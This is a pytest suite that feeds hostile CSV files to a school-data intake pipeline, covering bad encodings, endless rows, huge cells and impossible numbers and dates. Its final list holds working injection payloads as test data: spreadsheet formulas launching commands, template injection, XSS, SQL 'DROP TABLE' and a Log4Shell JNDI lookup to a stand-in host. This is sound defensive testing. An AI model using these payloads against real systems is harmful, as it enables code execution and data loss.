"""Text files made to hurt: encodings, quotes, endless lines and cells, numbers and dates beyond all reason."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from pipeline.intake import limits
from pipeline.intake.cells import parse_cell, parse_int, parse_text
from pipeline.intake.contract import normal_header
from pipeline.intake.read import ReadResult
from tests.hostile.files import cells_of, contracts, cut_out, hand_in, text_of

TABLE = "kindergarten_children"
TEXT = cut_out(TABLE)
SCHOOLS = "school_register"


def only(result: ReadResult) -> tuple[str, int | None]:
    (finding,) = result.findings
    return finding.rule, finding.row


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32"])
def test_i01_wide_encodings_without_their_mark(tmp_path: Path, encoding: str) -> None:
    data = TEXT.encode(encoding)
    rule, _ = only(hand_in(tmp_path, TABLE, data))
    assert rule == "I01"


def test_utf7_is_not_understood_and_says_so(tmp_path: Path) -> None:
    assert only(hand_in(tmp_path, TABLE, TEXT.encode("utf-7")))[0] == "I03"


def test_i01_a_nul_is_told_with_its_line(tmp_path: Path) -> None:
    lines = TEXT.split("\n")
    lines[3] = lines[3].replace(",", ",\0", 1)
    assert only(hand_in(tmp_path, TABLE, "\n".join(lines))) == ("I01", 4)


def test_lone_surrogates_are_no_utf8(tmp_path: Path) -> None:
    assert only(hand_in(tmp_path, TABLE, TEXT.replace("小班", "\ud800", 1)))[0] == "I01"


def test_a_mark_in_the_middle_of_a_file_is_no_part_of_a_cell(tmp_path: Path) -> None:
    """Two files joined by copying: the second header, with its mark, is a row with errors."""
    result = hand_in(tmp_path, TABLE, "\ufeff" + TEXT + "\ufeff" + TEXT)
    assert result.rows_read == 17 and result.frame.height == 8
    assert {f.row for f in result.findings if f.rule == "I10"} == set(range(11, 19))


def test_mixed_line_ends_give_the_same_rows(tmp_path: Path) -> None:
    lines = TEXT.rstrip("\n").split("\n")
    mixed = "".join(line + ("\n", "\r\n", "\r")[i % 3] for i, line in enumerate(lines))
    plain, same = (hand_in(tmp_path, TABLE, text).frame for text in (TEXT, mixed))
    assert same.drop("source_file").equals(plain.drop("source_file")) and plain.height == 8


@pytest.mark.parametrize("unit", [",", ";", "\t", "\n", "\r\n", '""', '"",', '"', '"\n', '",', "，", " ", "\ufeff", "\x0b"])
def test_a_file_of_nothing_but_signs(tmp_path: Path, unit: str) -> None:
    for times in (1, 7, 5_000, 60_000):
        result = hand_in(tmp_path, TABLE, unit * times)
        assert [f.rule for f in result.findings] in (["I21"], ["I03"], ["I01"])


def test_i01_a_row_beyond_the_limit_is_refused_before_it_is_taken_in(tmp_path: Path) -> None:
    """Commas without end, and a quote that never closes: one record as large as the file."""
    long = "1," * (limits.MAX_RECORD_CHARACTERS // 2 + 1)
    assert only(hand_in(tmp_path, TABLE, TEXT + long + "\n")) == ("I01", 10)
    endless = '"x\n' + '","\n' * (limits.MAX_RECORD_CHARACTERS // 4 + 1)
    assert only(hand_in(tmp_path, TABLE, TEXT + endless)) == ("I01", 10)


def test_i01_more_columns_than_a_table_has(tmp_path: Path) -> None:
    """Blank ones at the end do not count: a spreadsheet writes them by the thousand."""
    wide = limits.MAX_COLUMNS + 1
    assert only(hand_in(tmp_path, TABLE, TEXT + ",".join(["1"] * wide) + "\n")) == ("I01", 10)
    blank = TEXT.replace("\n", "," * wide + "\n")
    assert hand_in(tmp_path, TABLE, blank).frame.height == 8


def test_unknown_headers_by_the_thousand_are_told_in_reasonable_time(tmp_path: Path) -> None:
    rows = cells_of(TEXT)
    rows[0] += [f"不认识的列{i}号" for i in range(limits.MAX_COLUMNS - len(rows[0]))]
    start = time.process_time()
    result = hand_in(tmp_path, TABLE, text_of(rows))
    assert {f.rule for f in result.findings} == {"I02"} and time.process_time() - start < 20


def test_i01_more_cells_than_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_CELLS", 30)
    assert only(hand_in(tmp_path, TABLE, TEXT))[0] == "I01"


@pytest.mark.parametrize("column", range(8))
@pytest.mark.parametrize("value", ["9" * 100_000, "9" * 60_000 + "x", "字" * 40_000, "a\u0301\u0316" * 30_000, "\ufdfa" * 40_000, "=" * 90_000])
def test_i16_a_very_long_cell_is_refused_quickly_in_any_column(tmp_path: Path, column: int, value: str) -> None:
    """A long run of digits took minutes in a number column, composing a pile of accents seconds."""
    rows = cells_of(TEXT)
    rows[3][column] = value
    start = time.process_time()
    result = hand_in(tmp_path, TABLE, text_of(rows))
    assert time.process_time() - start < 2
    assert {f.rule for f in result.findings if f.row == 4} <= {"I16", "I17"} and result.frame.height == 7


def test_a_very_long_header_is_unknown_and_quoted_in_part(tmp_path: Path) -> None:
    rows = cells_of(TEXT)
    rows[0].append("长" * 100_000 + "\x1b]0;")
    (finding,) = hand_in(tmp_path, TABLE, text_of(rows)).findings
    assert finding.rule == "I02" and len(finding.column) < 70
    assert len(normal_header("a\u0301\u0316" * 50_000)) < 1000


@pytest.mark.parametrize("value", ["1" + "0" * 15, "-1", "NaN", "nan", "inf", "1e5", "1E400", "1_000", "0x10", "٣", "३", "1e999999999", "--1", "1-", "(5)", "5-", "½", "Ⅳ", "十"])
def test_numbers_beyond_reason_are_refused_or_outside_the_limits(tmp_path: Path, value: str) -> None:
    field = next(f for f in contracts()[TABLE].fields if f.name == "children")
    parsed = parse_cell(value, field)
    assert parsed.problem is not None and parsed.problem.rule in ("I04", "I08")
    assert parsed.value is None


def test_long_digit_strings_take_no_time() -> None:
    start = time.process_time()
    for text in ("9" * 200_000, "9" * 200_000 + "x", "1." * 100_000, "," * 100_000, "-" * 100_000, "1e" * 100_000):
        assert parse_int(text).problem is not None
    assert time.process_time() - start < 1


@pytest.mark.parametrize("value", ["0000-01-01", "9999-12-31", "2023-02-30", "99999-01-01", "1900-02-29", "2023-13-01", "-1-01-01", "２０２３-０２-３０"])
def test_dates_beyond_reason(value: str) -> None:
    field = next(f for f in contracts()[SCHOOLS].fields if f.type == "date")
    problem = parse_cell(value, field).problem
    assert problem is not None and problem.rule in ("I07", "I08")


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u2028", "\u2029", "\x1b", "\x00", "\x85", "\u00ad", "\U000e0041"])
def test_i16_characters_that_hide_or_turn_others(hidden: str) -> None:
    problem = parse_text(f"桥东{hidden}小学").problem
    assert problem is not None and problem.rule == "I16"
    assert f"\\u{ord(hidden):04x}" in problem.zh


@pytest.mark.parametrize("name", ["桥东\u3000小学", "ᠨᠣᠮ\u180eᠤᠨ", "می\u200cخواهم", "\U00020bb7野家小学", "\ue000小学"])
def test_joiners_rare_characters_and_wide_spaces_are_text(name: str) -> None:
    assert parse_text(name).problem is None


HOSTILE_NAMES = [
    '=HYPERLINK("http://x.invalid","点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "{{ 7*7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}", "{# note #}", "<script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>", "![x](http://x.invalid/a.png)", "[点我](javascript:alert(1))",
    "a|b`c*d_e~f", "'); DROP TABLE raw.school_register; --", "%s%n{0}${jndi:ldap://x.invalid}", "[bold red]红[/]",
]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_is_only_text_to_intake(tmp_path: Path, name: str) -> None:
    rows = cells_of(cut_out(SCHOOLS))
    rows[2][rows[0].index("学校名称")] = name
    result = hand_in(tmp_path, SCHOOLS, text_of(rows))
    assert result.frame["school_name"].to_list()[1] == name and result.frame.height == 8
